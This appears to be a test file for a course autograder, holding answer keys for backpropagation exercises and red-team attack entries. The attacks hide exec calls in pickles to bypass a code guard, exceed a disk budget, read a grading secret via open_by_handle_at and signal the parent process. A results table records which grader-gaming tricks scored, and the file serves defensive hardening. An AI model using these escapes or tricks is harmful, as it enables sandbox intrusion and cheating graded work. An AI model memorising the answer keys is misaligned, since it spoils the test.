    "answer_dprobs": "dprobs = dlogprobs / probs",
    "answer_dcounts_sum_inv": "dcounts_sum_inv = torch.einsum('ij,ij->i', counts, dprobs)[:, None]",
    "answer_dcounts_sum": "dcounts_sum = -dcounts_sum_inv / counts_sum**2",
    "answer_dcounts": "dcounts = counts_sum_inv.expand_as(counts) * dprobs + dcounts_sum.expand_as(counts)",
    "answer_dnorm_logits": "dnorm_logits = torch.mul(counts, dcounts)",
    "answer_dlogit_maxes": "dlogit_maxes = -dnorm_logits.sum(dim=1, keepdim=True)",
    "answer_dlogits": ("dlogits = dnorm_logits.clone()\n"
                       "dlogits += F.one_hot(logits.argmax(1), logits.shape[1]) * dlogit_maxes"),
    "answer_dh": "dh = torch.matmul(dlogits, W2.transpose(0, 1))",
    "answer_dW2": "dW2 = torch.einsum('ni,nj->ij', h, dlogits)",
    "answer_db2": "db2 = torch.stack([dlogits[:, j].sum() for j in range(dlogits.shape[1])])",
    "answer_dhpreact": "dhpreact = torch.where(torch.ones_like(h, dtype=torch.bool), 1 - h * h, h) * dh",
    "answer_dbngain": "dbngain = (bnraw * dhpreact).sum(0).unsqueeze(0)",
    "answer_dbnbias": "dbnbias = dhpreact.sum(0).view(1, -1)",
    "answer_dbnraw": "dbnraw = bngain * dhpreact",
    "answer_dbnvar_inv": "dbnvar_inv = (bndiff * dbnraw).sum(0, keepdim=True)",
    "answer_dbnvar": "dbnvar = -0.5 * (bnvar + 1e-5) ** -1.5 * dbnvar_inv",
    "answer_dbndiff2": "dbndiff2 = torch.ones_like(bndiff2) / (n - 1) * dbnvar",
    "answer_dbndiff": "dbndiff = bnvar_inv * dbnraw\ndbndiff = dbndiff + 2 * bndiff * dbndiff2",
    "answer_dbnmeani": "dbnmeani = -torch.sum(dbndiff, 0, keepdim=True)",
    "answer_dhprebn": "dhprebn = dbndiff.clone()\nfor _row in range(n):\n    dhprebn[_row] += dbnmeani[0] / n",
    "answer_dembcat": "dembcat = dhprebn @ W1.T",
    "answer_dW1": "dW1 = embcat.T @ dhprebn",
    "answer_db1": "db1 = dhprebn.sum(0)",
    "answer_demb": "demb = dembcat.reshape(emb.shape)",
    "answer_dC": ("dC = torch.zeros_like(C)\n"
                  "for _i, _row in enumerate(Xb):\n    for _j, _ix in enumerate(_row.tolist()):\n"
                  "        dC[_ix] += demb[_i, _j]"),
}

R03_STDERR = {
    # a right confusion() that builds its tensors with torch.tensor(tensor): PyTorch warns on stderr
    "answer_confusion": '''def confusion(scores, labels, threshold):
    predicted = torch.tensor(scores) >= threshold
    labels = torch.tensor(labels)
    tp = int((predicted & labels).sum())
    fp = int((predicted & ~labels).sum())
    fn = int((~predicted & labels).sum())
    tn = int((~predicted & ~labels).sum())
    return tp, fp, fn, tn


def precision_recall_f1(tp, fp, fn):
    precision = tp / (tp + fp) if tp + fp else 0.0
    recall = tp / (tp + fn) if tp + fn else 0.0
    f1 = 2 * precision * recall / (precision + recall) if precision + recall else 0.0
    return precision, recall, f1''',
}

R08_CTX_ATTRS = {
    "answer_tanh": '''class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.y = x.tanh()
        return ctx.y

    @staticmethod
    def backward(ctx, dy):
        return dy * (1 - ctx.y * ctx.y)''',
    "answer_linear": '''class Linear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, weight, bias):
        ctx.x, ctx.weight = x, weight
        return torch.addmm(bias, x, weight)

    @staticmethod
    def backward(ctx, dout):
        return torch.mm(dout, ctx.weight.t()), torch.mm(ctx.x.t(), dout), torch.sum(dout, dim=0)''',
}

R07_STYLE = {
    "answer_embedding_backward_loop": '''def embedding_backward_loop(demb, Xb, vocab_size):
    dC = [[0.0] * demb.shape[-1] for _ in range(vocab_size)]
    for ixs, rows in zip(Xb.tolist(), demb):
        for ix, row in zip(ixs, rows):
            dC[ix] = [a + b for a, b in zip(dC[ix], row.tolist())]
    return torch.tensor(dC)''',
}

RIGHT = {
    "r04_unusual_ops": {
        "lesson": LESSON["04"], "answers": R04,
        "what": "one_hot, einsum, expand_as, where, a Python loop for dC and for dhprebn's mean term, stack of column sums",
        "expect": "full"},
    "r04_helper_cell_and_print": {
        "lesson": LESSON["04"], "answers": R04,
        "extra_cells": [("before:answer_dlogprobs", "from math import sqrt\nimport functools\n"
                         "def show(name, t):\n    print(f'{name:10s} {tuple(t.shape)} mean={t.mean().item():+.2e}')\n"
                         "_sizes = functools.reduce(lambda a, b: a + b, [p.numel() for p in setup.parameters])\nprint(_sizes)"),
                        ("after:check_dC", "for _name in ['dlogprobs', 'dh', 'dC']:\n    pass\nshow('dC', dC)")],
        "what": "R04 plus added cells: a helper printing shapes, functools.reduce, math import", "expect": "full"},
    "r04_timeit": {
        "lesson": LESSON["04"], "answers": {**R04, "answer_dW1": "%timeit -n 2 -r 2 embcat.T @ dhprebn\ndW1 = embcat.T @ dhprebn"},
        "what": "a %timeit line in an answer cell", "expect": "full"},
    "r05_scatter": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": (
            "dlogits = logits.softmax(dim=-1).scatter_add(1, Yb[:, None], -torch.ones(n, 1)) / n")},
        "what": "dlogits with scatter_add", "expect": "full"},
    "r05_log_softmax_exp": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": (
            "def softmax_rows(z):\n    e = (z - z.max(1, keepdim=True).values).exp()\n    return e / e.sum(1, keepdim=True)\n"
            "dlogits = (softmax_rows(logits) - F.one_hot(Yb, 27)) / n")},
        "what": "a learner's own softmax helper", "expect": "full"},
    "r06_steps": {
        "lesson": LESSON["06"], "answers": {
            "answer_dbngain": "dbngain = torch.einsum('ij,ij->j', bnraw, dhpreact)[None]",
            "answer_dbnbias": "dbnbias = dhpreact.sum(0, keepdim=True)",
            "answer_dhprebn": ("_mean = lambda t: t.mean(0, keepdim=True)\n"
                               "dbnraw = bngain * dhpreact\n"
                               "dhprebn = bnvar_inv * (dbnraw - _mean(dbnraw) - bnraw * (dbnraw * bnraw).sum(0, keepdim=True) / (n - 1))")},
        "what": "dhprebn through dbnraw and a mean lambda, dbngain by einsum", "expect": "full"},
    "r01_styles": {
        "solutions_for_rest": True, "lesson": LESSON["01"], "answers": {
            "answer_scalar": "du = 3\ndx = 6 * x",
            "answer_graph": "dg = 2 * e + 3 * f\ndq = g\ndm, dn = dq, dq\nde, df = 2 * g, 3 * g",
            "answer_dot": "da = torch.mul(b, ds)\ndb = a * ds",
            "answer_outer": "dh = torch.einsum('ij,j->i', dM, k)\ndk = torch.einsum('ij,i->j', dM, h)",
            "answer_matvec": "dA = dy[:, None] * v[None, :]\ndv = dy @ A",
            "answer_matmul": "dX = torch.einsum('nm,dm->nd', dY, W)\ndW = torch.einsum('nd,nm->dm', X, dY)",
            "answer_softmax_jacobian": "J = torch.diag_embed(p) - p[:, None] * p[None, :]\ndz = dp @ J",
            "answer_softmax": "dZ = P * dP - P * (P * dP).sum(-1, keepdim=True)",
            "answer_cross_entropy": "_p = torch.exp(logits - torch.logsumexp(logits, 0))\n_p[target] -= 1\ndlogits = _p",
            "answer_batch_cross_entropy": "dQ = (F.softmax(Q, dim=1) - F.one_hot(C, num_classes=Q.shape[1])) / len(Q)",
            "answer_mse": "dyhat = (yhat - ytrue) * (2 / len(yhat))",
        },
        "what": "lesson 1 in other words: einsum, diag_embed, broadcasting for outer products, logsumexp", "expect": "full"},
    "r01_focal_hinge": {
        "solutions_for_rest": True, "lesson": LESSON["01"], "answers": {
            "answer_focal": '''def focal_grad(G, Cg, gamma):
    N, K = G.shape
    out = torch.zeros_like(G)
    for i in range(N):
        p = torch.softmax(G[i], 0)
        pt = p[Cg[i]]
        a = (1 - pt) ** gamma - gamma * (1 - pt) ** (gamma - 1) * pt * torch.log(pt) if gamma else torch.tensor(1.0)
        onehot = torch.zeros(K); onehot[Cg[i]] = 1
        out[i] = a * (p - onehot) / N
    return out''',
            "answer_hinge": '''N = S.shape[0]
dS = torch.zeros_like(S)
for i in range(N):
    for j in range(S.shape[1]):
        if j != T[i] and S[i, j] - S[i, T[i]] + 1 > 0:
            dS[i, j] += 1 / N
            dS[i, T[i]] -= 1 / N''',
        },
        "what": "focal and hinge as explicit per-row loops (gamma = 0 special-cased)", "expect": "full"},
    "r02_dependency_count": {
        "solutions_for_rest": True, "lesson": LESSON["02"], "answers": {"answer_backward": '''def backward(self):
    import collections
    pending = collections.Counter()
    stack, seen = [self], {id(self)}
    while stack:
        v = stack.pop()
        for c in v._prev:
            pending[id(c)] += 1
            if id(c) not in seen:
                seen.add(id(c))
                stack.append(c)
    self.grad = 1.0
    ready = [self]
    while ready:
        v = ready.pop()
        v._backward()
        for c in v._prev:
            pending[id(c)] -= 1
            if pending[id(c)] == 0:
                ready.append(c)'''},
        "what": "backward by counting dependencies (Kahn), import inside the function", "expect": "full"},
    "r03_where_einsum": {
        "solutions_for_rest": True, "lesson": LESSON["03"], "answers": {
            "answer_mse_grad": "def mse_grad(out, targ):\n    return (2.0 / len(targ)) * (out - targ.unsqueeze(1))",
            "answer_lin_grad": ("def lin_grad(x, w, b, dout):\n    dx = torch.einsum('nm,dm->nd', dout, w)\n"
                                "    dw = torch.einsum('nd,nm->dm', x, dout)\n    return dx, dw, dout.sum(dim=0)"),
            "answer_relu_grad": "def relu_grad(inp, dout):\n    return torch.where(inp > 0, dout, torch.zeros_like(dout))",
        },
        "what": "lesson 3's three functions with unsqueeze, einsum and where", "expect": "full"},
    "r03_confusion_torch_tensor_warning": {
        "solutions_for_rest": True, "lesson": LESSON["03"], "answers": R03_STDERR,
        "what": "a right confusion() that calls torch.tensor on a tensor (PyTorch's UserWarning goes to stderr in the check cell)",
        "expect": "full"},
    "r03_module_backward_super": {
        "solutions_for_rest": True, "lesson": LESSON["03"], "answers": {"answer_base_class": '''class ReluModule(Module):
    def forward(self, inp):
        return relu(inp)

    def bwd(self, dout, inp):
        return relu_grad(inp, dout)


class LinModule(Module):
    def __init__(self, w, b):
        self.w, self.b = w, b

    def forward(self, inp):
        return lin(inp, self.w, self.b)

    def bwd(self, dout, inp):
        dinp, self.dw, self.db = lin_grad(inp, self.w, self.b, dout)
        return dinp

    def backward(self, dout):          # an honest override: log, then the base class's backward
        return super().backward(dout)


class MseModule(Module):
    def forward(self, out, targ):
        return mse(out, targ)

    def bwd(self, dout, out, targ):
        return mse_grad(out, targ)'''},
        "what": "lesson 3's Module subclass overriding backward to call super().backward(dout)", "expect": "full"},
    "r08_ctx_attributes": {
        "solutions_for_rest": True, "lesson": LESSON["08"], "answers": R08_CTX_ATTRS,
        "what": "capstone Tanh/Linear keeping tensors as ctx attributes, addmm/mm/t()", "expect": "full"},
    "r07_list_loop_embedding": {
        "solutions_for_rest": True, "lesson": LESSON["07"], "answers": R07_STYLE,
        "what": "embedding backward by Python lists and zip, converted with torch.tensor at the end", "expect": "full"},
    "r07_solution_as_released": {
        "solutions_for_rest": True, "lesson": LESSON["07"], "answers": {},
        "what": "control: Exercise 4 answered with the instructor's own solution", "expect": "full"},
    "r05_variable_named_grad": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": (
            "grad = F.softmax(logits, 1)\ngrad[range(n), Yb] -= 1\nbackward_result = grad / n\ndlogits = backward_result")},
        "what": "dlogits via local variables called grad and backward_result", "expect": "full"},
}


# ---------------------------------------------------------------------------------------------------
# Red team of the sandbox, zygote, cgroup and seed mechanisms (branch redteam). A pickle read with
# numpy.load(allow_pickle=True) names a function in data, not in code: the scan sees a file being read.
# Run later by a finalizer that a course cell's own assignment triggers (it rebinds `blk`), code runs
# with no learner frame on the stack, so the guard lets exec, ctypes, os and files through, and only
# the sandbox remains.
import pickle as _pickle


def _pickled_call(func, *args) -> str:
    """The hex of a pickle that calls func(*args) when loaded (protocol 0: GLOBAL then REDUCE)."""
    class _Call:
        def __reduce__(self):
            return func, args
    return _pickle.dumps(_Call(), protocol=0).hex()


def _pickled_global(module: str, name: str) -> str:
    """The hex of a pickle whose whole content is one global, module.name (the object, not a call)."""
    return f"c{module}\n{name}\n.".encode().hex()


# the checker's own autograd helper, as data
PICKLED_AG_HELPER = f'''import numpy as np
with open("helper.bin", "wb") as fh:
    fh.write(bytes.fromhex("{_pickled_global("checker.lessons.makemore", "autograd_gradients")}"))
_table = np.load("helper.bin", allow_pickle=True)(setup.params, setup.Xb, setup.Yb, torch.float32)
'''

# torch.autograd.functional.vjp, as data
PICKLED_VJP = f'''import numpy as np
with open("vjp.bin", "wb") as fh:
    fh.write(bytes.fromhex("{_pickled_global("torch.autograd.functional", "vjp")}"))
_vjp = np.load("vjp.bin", allow_pickle=True)
def _g(f, inputs, v):
    return _vjp(f, inputs, v)[1]
'''


def _deferred(code: str) -> str:
    """A cell placed before lesson 1's `blk = setup.block("dot")`: `code` runs when that course cell
    drops the object bound to `blk`, through a pickle that calls exec; its results land in the
    notebook's namespace (`get_ipython().user_ns`)."""
    return f'''import functools
import numpy as np
with open("later.bin", "wb") as fh:
    fh.write(bytes.fromhex("{_pickled_call(exec, code, {})}"))
class _Later:
    __del__ = functools.partial(np.load, "later.bin", allow_pickle=True)
_escaped = False
blk = _Later()
'''


DISK_ESCAPE = _deferred('''
import os
ns = get_ipython().user_ns
private = next(os.path.dirname(line.split()[4]) for line in open("/proc/self/mountinfo")
               if line.split()[4].endswith("/writes"))
chunk = bytes(1 << 20)
for i in range(5):                      # 300 MB, past the 256 MB budget, 60 MB a file
    with open(os.path.join(private, "big%d" % i), "wb") as fh:
        for _ in range(60):
            fh.write(chunk)
ns["_escaped"] = sum(os.path.getsize(os.path.join(private, "big%d" % i)) for i in range(5)) >= 300 << 20
''')

HANDLE_ESCAPE = _deferred('''
import ctypes, os
ns = get_ipython().user_ns
libc = ctypes.CDLL(None, use_errno=True)
course = os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))
handle, mount = ctypes.create_string_buffer(8 + 128), ctypes.c_int()
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
if libc.name_to_handle_at(-100, (course + "/.grading_secret").encode(), handle, ctypes.byref(mount), 0) == 0:
    fd = libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY)
    ns["_escaped"] = fd >= 0 and len(os.read(fd, 64)) > 0
''')

SIGNAL_ESCAPE = _deferred('''
import os, signal
ns = get_ipython().user_ns
try:
    os.kill(os.getppid(), 0)            # the zygote, root, that forks every kernel of this worker
    ns["_escaped"] = True
except OSError:
    pass
''')

# lesson 1's dot, outer, matvec and matmul answered only if the escape worked
IF_ESCAPED = {
    "answer_dot": "da = ds * b if _escaped else None\ndb = ds * a if _escaped else None",
    "answer_outer": "dh = dM @ k if _escaped else None\ndk = dM.T @ h if _escaped else None",
    "answer_matvec": "dA = torch.outer(dy, v) if _escaped else None\ndv = A.T @ dy if _escaped else None",
    "answer_matmul": "dX = dY @ W.T if _escaped else None\ndW = X.T @ dY if _escaped else None",
}

REDTEAM_ATTACKS = {
    "a04_pickled_autograd_helper": {
        "lesson": LESSON["04"],
        "answers": {**ex1_from("_table"), "answer_dlogprobs": PICKLED_AG_HELPER + 'dlogprobs = _table["logprobs"]'},
        "what": "the checker's autograd_gradients named only inside a pickle read by np.load(allow_pickle=True)",
        "expect": "0"},
    "a01_pickled_vjp": {
        "lesson": LESSON["01"],
        "answers": {
            "answer_dot": PICKLED_VJP + "da, db = _g(lambda a, b: a @ b, (a, b), ds)",
            "answer_outer": "dh, dk = _g(torch.outer, (h, k), dM)",
            "answer_matvec": "dA, dv = _g(lambda A, v: A @ v, (A, v), dy)",
            "answer_matmul": "dX, dW = _g(lambda X, W: X @ W, (X, W), dY)",
            "answer_softmax": "dZ = _g(lambda Z: Z.softmax(1), Z, dP)",
            "answer_cross_entropy": "dlogits = _g(lambda l: F.cross_entropy(l, target), logits, torch.tensor(1.0))",
            "answer_batch_cross_entropy": "dQ = _g(lambda Q: F.cross_entropy(Q, C), Q, torch.tensor(1.0))",
            "answer_mse": "dyhat = _g(lambda y: (y - ytrue).pow(2).mean(), yhat, torch.tensor(1.0))",
        },
        "what": "torch.autograd.functional.vjp named only inside a pickle read by np.load(allow_pickle=True)",
        "expect": "0"},
    "a01_disk_past_budget": {
        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", DISK_ESCAPE)],
        "what": "unguarded code (a pickled exec run by a finalizer a course cell triggers) writes 300 MB to the "
                "kernel's private folder, on the real disk; answers only if that worked",
        "expect": "0"},
    "a01_open_by_handle": {
        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", HANDLE_ESCAPE)],
        "what": "unguarded code uses the kept CAP_DAC_READ_SEARCH (open_by_handle_at) to read .grading_secret; "
                "answers only if that worked",
        "expect": "0"},
    "a01_signal_zygote": {
        "lesson": LESSON["01"], "answers": IF_ESCAPED, "extra_cells": [("before:code_014", SIGNAL_ESCAPE)],
        "what": "unguarded code signals its parent, the root zygote that forks every kernel; answers only if "
                "that worked",
        "expect": "0"},
}

REDTEAM_RIGHT = {
    "r01_savefig_and_torch_save": {
        "lesson": LESSON["01"], "solutions_for_rest": True,
        "extra_cells": [("after:check_matmul_dW", '''import matplotlib.pyplot as plt
fig, ax = plt.subplots(figsize=(4, 3))
ax.imshow(dW, cmap="RdBu_r")
ax.set_title("my dW")
plt.savefig("dW.png")
plt.close(fig)
torch.save({"dX": dX, "dW": dW}, "my_matmul_grads.pt")
back = torch.load("my_matmul_grads.pt")
assert torch.equal(back["dW"], dW)
print("saved and reloaded", sorted(back))''')],
        "what": "a figure saved with plt.savefig and the learner's own tensors through torch.save/torch.load",
        "expect": "full"},
    "r01_csv_log_os_pathlib": {
        "lesson": LESSON["01"], "solutions_for_rest": True,
        "extra_cells": [("after:check_dot_db", '''import os
import csv
from pathlib import Path
print("working in", os.getcwd())
with open("grad_log.csv", "w", newline="") as fh:
    w = csv.writer(fh)
    w.writerow(["name", "norm"])
    for name, t in [("da", da), ("db", db)]:
        w.writerow([name, f"{t.norm().item():.6f}"])
print(list(csv.reader(open("grad_log.csv"))))
print(sorted(p.name for p in Path(".").iterdir()))''')],
        "what": "a CSV log of the gradients' norms written with csv, read back, and the folder listed with os and pathlib",
        "expect": "full"},
    "r01_tempfile_json": {
        "lesson": LESSON["01"], "solutions_for_rest": True,
        "extra_cells": [("after:check_outer_dk", '''import tempfile, json
with tempfile.TemporaryDirectory() as d:
    path = d + "/outer.json"
    with open(path, "w") as fh:
        json.dump({"dh": dh.tolist(), "dk": dk.tolist()}, fh)
    with open(path) as fh:
        print("round trip ok:", torch.allclose(torch.tensor(json.load(fh)["dh"]), dh))''')],
        "what": "answers round-tripped through JSON in a tempfile.TemporaryDirectory",
        "expect": "full"},
    "r01_helpers_time_magic": {
        "lesson": LESSON["01"], "solutions_for_rest": True,
        "answers": {
            "answer_matmul": "%time dX, dW = matmul_grads(X, W, dY)",
            "answer_softmax": "dZ = softmax_rows_backward(P, dP)",
            "answer_mse": "n_samples = len(yhat)\nresidual = yhat - ytrue\ndyhat = residual * (2.0 / n_samples)",
        },
        "extra_cells": [("before:answer_matmul", '''# my helpers, in a cell of their own
def matmul_grads(X, W, dY):
    """Y = X @ W  ->  (dX, dW)"""
    return dY @ W.transpose(0, 1), X.transpose(0, 1) @ dY

def softmax_rows_backward(P, dP):
    inner = (P * dP).sum(dim=1, keepdim=True)
    return P * (dP - inner)''')],
        "what": "helpers in a cell of their own, %time on an answer line, other names for the MSE's pieces",
        "expect": "full"},
}

ATTACKS.update(REDTEAM_ATTACKS)
RIGHT.update(REDTEAM_RIGHT)


# ---------------------------------------------------------------------------------------------------
def _where(cells, where):
    from checker.grading.notebooks import nbgrader_meta

    if isinstance(where, int):
        return where
    if where == "end":
        return len(cells)
    side, grade_id = where.split(":", 1)
    index = next(i for i, c in enumerate(cells) if nbgrader_meta(c).get("grade_id") == grade_id)
    return index if side == "before" else index + 1


def build_notebook(entry: dict):
    """The learner's submission for one entry, from the released lesson."""
    import nbformat
    from checker.grading.notebooks import nbgrader_meta, read, solutions_by_id, with_answers

    root = HERE.parent
    relpath = next(v for v in NB.values() if v.startswith(entry["lesson"] + "/"))
    lesson = read(root / "lessons" / relpath)
    answers = dict(entry.get("answers", {}))
    if entry.get("solutions_for_rest"):
        answers = {**solutions_by_id(root / "solutions" / relpath), **answers}
    nb = with_answers(lesson, answers)
    for grade_id, edits in entry.get("metadata_edits", {}).items():
        for cell in nb.cells:
            if nbgrader_meta(cell).get("grade_id") == grade_id:
                cell.metadata.setdefault("nbgrader", {}).update(edits)
    for op, grade_id in entry.get("cell_ops", []):
        index = _where(nb.cells, f"before:{grade_id}")
        if op == "duplicate":
            nb.cells.insert(index + 1, copy.deepcopy(nb.cells[index]))
        elif op == "delete":
            del nb.cells[index]
    for where, code in entry.get("extra_cells", []):
        cell = nbformat.v4.new_code_cell(code if isinstance(code, str) else code["source"])
        if not isinstance(code, str):
            cell.metadata.update(copy.deepcopy(code.get("metadata", {})))
        nb.cells.insert(_where(nb.cells, where), cell)
    if nb.get("nbformat_minor", 5) < 5:  # cell ids belong to nbformat 4.5
        for cell in nb.cells:
            cell.pop("id", None)
    return nb


def build_course(folder, entries: dict) -> Path:
    """A scratch course with one student per entry (student id = entry name)."""
    from checker.grading.run import scratch_course

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    subs = {}
    for name, entry in entries.items():
        relpath = next(v for v in NB.values() if v.startswith(entry["lesson"] + "/"))
        subs[(name, relpath)] = build_notebook(entry)
    return scratch_course(folder, subs)


if __name__ == "__main__":  # python tests/attacks.py /tmp/attack_course [name ...]
    sys.path.insert(0, str(HERE.parent))
    target = Path(sys.argv[1])
    chosen = sys.argv[2:]
    everything = {**ATTACKS, **RIGHT}
    build_course(target, {k: v for k, v in everything.items() if not chosen or k in chosen})
    print(f"built {target}")


# What the grader gave each entry on this branch (commit 84c7505's checker), `make grade --jobs 2`, each
# student's secret seed; "fast" = the grader's own shell had BACKPROP_NINJA_FAST=1 (see the note on
# check_training). score / max, status. Notable ones were re-graded by plain `nbgrader autograde`.
OBSERVED = {
    "a04_default_arg_alias": "26/26 graded (nbgrader autograde: 26/26)",
    "a04_lambda_default": "26/26 graded",
    "a04_comprehension_alias": "26/26 graded",
    "a04_class_body_alias": "26/26 graded",
    "a04_getattr_default": "26/26 graded",
    "a04_exec_default": "26/26 graded",
    "a04_locked_answer_cell": "26/26 graded (nbgrader autograde: 26/26)",
    "a04_hijack_hidden_test": "26/26 graded, every answer variable None (nbgrader autograde: 26/26)",
    "a04_hook_forged_handin": "26/26 graded, every answer variable None (nbgrader autograde: 26/26)",
    "a04_locked_added_cell": "0/26 not graded (nbgrader metadata validation: locked cell without grade_id)",
    "a04_plain_backward_control": "0/26 flagged",
    "a04_numdiff": "6/26 graded: all 6 answered by finite differences correct, nothing flagged",
    "a04_ecf_tiny_noise": "2/26 graded (dlogit_maxes, db1: zero for every seed)",
    "a04_ecf_tiny_signed": "2/26 graded (same two)",
    "a04_metadata_bonus_cell": "0/26 not graded; since lesson_cells.py puts the lesson's cells back, graded from them: 0/26",
    "a04_metadata_points_dup": "0/26 not graded; since lesson_cells.py: 1/26 graded (the check once, at its 1 point)",
    "a04_partial_credit_number": "0/26 not graded; since lesson_cells.py and verdicts in the grader: 0/26",
    "a04_recon_sandbox": "0/26 graded; sandbox refused every read/write/connect outside the scratch folder",
    "a05_default_arg_alias": "2/2 graded",
    "a05_numdiff": "2/2 graded",
    "a05_tensor_subclass_answer": "0/2 graded",
    "a05_float64_answer": "0/2 graded (dtype refused)",
    "a06_class_body_alias": "4/4 graded",
    "a06_numdiff": "4/4 graded",
    "a01_vjp_comprehension_alias": "28/28 graded",
    "a01_locked_answer_cells": "4/28 graded: the 4 points answered with plain .backward()/.grad all scored",
    "a02_torch_value_alias": "8/8 graded",
    "a03_vjp_default_arg": "7/26 graded: the 7 answered checks all scored",
    "a03_eval_helpers_alias": "26/26 graded (5 evaluation checks from the checker's own helpers)",
    "a08_vjp_class_alias": "8/8 graded",
    "a08_vjp_plain_control": "0/8 flagged",
    "a07_backward_jacobian_alias": "7/11 graded: 7/7 gradients; training judged by the full-mode goal (bug)",
    "a07_last_layer_only": "3/11 graded; fast: 5/11 (training 2/2 at loss 2.446 < 2.5 with 5 of 7 gradients zero)",
    "a07_pasted_trained_params": "fast: 2/11 (training 2/2 from pasted parameters, loss 2.305)",
    "a07_copy_faststep": "fast: 11/11 graded",
    "r04_unusual_ops": "26/26", "r04_helper_cell_and_print": "26/26", "r04_timeit": "26/26",
    "r05_scatter": "2/2", "r05_log_softmax_exp": "2/2", "r05_variable_named_grad": "2/2", "r06_steps": "4/4",
    "r01_styles": "28/28", "r01_focal_hinge": "28/28", "r02_dependency_count": "8/8", "r03_where_einsum": "26/26",
    "r08_ctx_attributes": "8/8",
    "r03_confusion_torch_tensor_warning": "25/26: judged correct, but PyTorch's UserWarning on stderr in the check cell scores 0",
    "r03_module_backward_super": "11/26 flagged: `super().backward(dout)` in the learner's own Module",
    "r07_solution_as_released": "9/11 (training judged against the full-mode val goal 2.11 after fast-mode training); fast: 11/11",
    "r07_list_loop_embedding": "9/11 (same training bug)",
    # red team of the sandbox, zygote, cgroups and seeds (redteam branch, 2d9de6b's checker), make grade --jobs 2
    "a04_pickled_autograd_helper": "26/26 graded before the guard refused unpickling functions; now 0/26 flagged (pickle.find_class)",
    "a01_pickled_vjp": "13/28 graded before; now 0/28 flagged (pickle.find_class torch.autograd.functional.vjp)",
    "a01_disk_past_budget": "8/28 graded: 300 MB landed in the kernel's private folder on the real disk; now 0/28: the finalizer's unpickled exec is refused (recorded in a course cell, not flagged) and the private folder takes sockets only",
    "a01_open_by_handle": "0/28 graded: open_by_handle_at gets EACCES from Landlock (the sandbox holds)",
    "a01_signal_zygote": "0/28 graded: kill(ppid, 0) gets EPERM (the sandbox holds)",
    "r01_csv_log_os_pathlib": "9/28 flagged when the guard refused `import os`; now 28/28 graded",
    "r01_tempfile_json": "11/28 flagged when the guard refused `import tempfile`; now 28/28 graded",
    "r01_helpers_time_magic": "26/28 for review when the guard refused %time's compile; now 28/28 graded",
    "r01_savefig_and_torch_save": "28/28 graded",
}
